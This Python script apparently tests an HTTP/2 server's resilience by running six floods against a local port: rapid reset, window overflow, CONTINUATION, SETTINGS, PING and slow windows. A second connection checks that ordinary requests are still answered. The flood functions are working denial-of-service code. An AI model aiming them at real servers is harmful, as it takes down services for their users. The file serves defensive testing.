"""Floods of HTTP/2 by Python's h2, which frames and follows the connection by itself.

usage: h2_floods.py PORT AUTHORITY FLOOD   prints what became of the attacker: "ended WHY" or "answered STATUS"

Another connection asks for a page all the while and is answered each time, or this fails.
"""
import select
import socket
import sys
import time

from h2 import events
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes, Settings
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, WindowUpdateFrame

PATIENCE = 60
# Seconds for one that must be thrown out, and for one that may be heard out.
UNTIL_ENDED, UNTIL_HEARD = 40, 2
# Frames, or so, before somebody else has a turn: more than anybody may give up within a second.
BATCH = 500


class Client:
    def __init__(self, port, authority, settings=None):
        self.authority = authority
        self.ended = None
        self.statuses = {}
        self.bodies = {}
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.connection = H2Connection(config=H2Configuration(header_encoding="utf-8"))
        if settings:
            self.connection.local_settings = Settings(client=True, initial_values=settings)
        self.connection.initiate_connection()
        self.send()

    def fields(self, path="/"):
        return [(":method", "GET"), (":scheme", "http"), (":authority", self.authority), (":path", path)]

    def ask(self, path="/"):
        stream = self.connection.get_next_available_stream_id()
        self.connection.send_headers(stream, self.fields(path), end_stream=True)
        return stream

    def send(self, raw=b""):
        try:
            self.socket.sendall(self.connection.data_to_send() + raw)
        except OSError:
            self.hear()
            self.ended = self.ended or "closed"

    def hear(self, wait=0.0):
        """Takes in what has come, after waiting for some of it."""
        while not self.ended and select.select([self.socket], [], [], wait)[0]:
            wait = 0.0
            try:
                data = self.socket.recv(65536)
                if not data:
                    self.ended = "closed"
                    return
                for event in self.connection.receive_data(data):
                    self.take(event)
            except (OSError, ProtocolError) as error:
                self.ended = f"closed: {error}"

    def take(self, event):
        if isinstance(event, events.ConnectionTerminated):
            self.ended = ErrorCodes(event.error_code).name
        elif isinstance(event, events.ResponseReceived):
            self.statuses[event.stream_id] = dict(event.headers)[":status"]
        elif isinstance(event, events.StreamEnded):
            self.bodies[event.stream_id] = True

    def answer(self):
        """Asks, and waits for all of the answer; its status."""
        if self.ended:
            return None
        stream = self.ask()
        self.send()
        end = time.monotonic() + PATIENCE
        while stream not in self.bodies and not self.ended:
            if time.monotonic() > end:
                raise SystemExit("no answer")
            self.hear(1.0)
            self.send()
        return self.statuses.get(stream)


def rapid_reset(client):
    stream = client.ask()
    client.connection.reset_stream(stream, ErrorCodes.CANCEL)


def made_you_reset(client):
    """A window that overflows: the server must give up what it was asked."""
    while client.connection.open_outbound_streams > 100 and not client.ended:
        client.hear(0.05)
    if client.ended:
        return
    client.send(WindowUpdateFrame(client.ask(), window_increment=2**31 - 1).serialize())


def continuation(client):
    if not hasattr(client, "head"):
        client.head = client.connection.get_next_available_stream_id()
        block = Encoder().encode(client.fields())
        client.send(HeadersFrame(client.head, block, flags=["END_STREAM"]).serialize())
    client.send(ContinuationFrame(client.head, b"\x00\x06x-junk\x7f\x81\x3c" + b"j" * 7808).serialize())


def settings(client):
    client.connection.update_settings({SettingCodes.MAX_CONCURRENT_STREAMS: 100})


def pings(client):
    client.connection.ping(b"12345678")


def windows(client):
    """Answers through windows that open by one byte at a time."""
    if not hasattr(client, "asked"):
        client.asked = [client.ask() for _ in range(50)]
    for stream in client.asked:
        if stream not in client.bodies:
            client.connection.increment_flow_control_window(1, stream)


FLOODS = {
    "rapid_reset": (rapid_reset, None, UNTIL_ENDED),
    "made_you_reset": (made_you_reset, None, UNTIL_ENDED),
    "continuation": (continuation, None, UNTIL_ENDED),
    "settings": (settings, None, UNTIL_HEARD),
    "pings": (pings, None, UNTIL_HEARD),
    "windows": (windows, {SettingCodes.INITIAL_WINDOW_SIZE: 0}, UNTIL_HEARD),
}


def main(port, authority, name):
    flood, special, longest = FLOODS[name]
    calm, attacker = Client(port, authority), Client(port, authority, special)
    end = time.monotonic() + longest
    while not attacker.ended and time.monotonic() < end:
        for _ in range(BATCH):
            if not attacker.ended:
                flood(attacker)
        attacker.send()
        attacker.hear()
        status = calm.answer()
        if status != "200":
            raise SystemExit(f"somebody else was answered {status}, {calm.ended}")
    if attacker.ended:
        print("ended", attacker.ended)
    else:
        if special:
            attacker.connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 65535})
        print("answered", attacker.answer())
    status = Client(port, authority).answer()
    if status != "200":
        raise SystemExit(f"afterwards somebody was answered {status}")


main(int(sys.argv[1]), sys.argv[2], sys.argv[3])
